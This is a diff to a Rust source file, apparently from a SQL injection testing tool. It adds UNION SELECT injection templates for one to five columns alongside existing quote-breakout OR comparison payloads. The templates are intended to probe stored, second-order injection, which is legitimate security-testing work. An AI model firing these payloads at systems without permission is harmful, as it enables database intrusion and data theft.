@@ -62,6 +62,37 @@ pub(crate) const PAIRS: &[Pair] = &[
     Pair::new("double quotes", Deep, "«W»\" OR \"«A»\"<\"«B»", "«W»\" OR \"«B»\"<\"«A»"),
 ];
 
+macro_rules! joined {
+    () => {
+        "'«L»'||(«M»)||'«R»'"
+    };
+}
+
+/// For a text that is kept and becomes part of a statement later: a row of ours, of one to five columns.
+pub(crate) const UNIONS: &[Form] = &[
+    Form::computed("one column", Standard, concat!("«W»' UNION SELECT ", joined!(), " -- ")),
+    Form::computed(
+        "two columns",
+        Standard,
+        concat!("«W»' UNION SELECT ", joined!(), ",", joined!(), " -- "),
+    ),
+    Form::computed(
+        "three columns",
+        Standard,
+        concat!("«W»' UNION SELECT ", joined!(), ",", joined!(), ",", joined!(), " -- "),
+    ),
+    Form::computed(
+        "four columns",
+        Standard,
+        concat!("«W»' UNION SELECT ", joined!(), ",1,2,", joined!(), " -- "),
+    ),
+    Form::computed(
+        "five columns",
+        Standard,
+        concat!("«W»' UNION SELECT ", joined!(), ",1,2,3,", joined!(), " -- "),
+    ),
+];
+
 macro_rules! counting {
     ($n:literal) => {
         concat!(
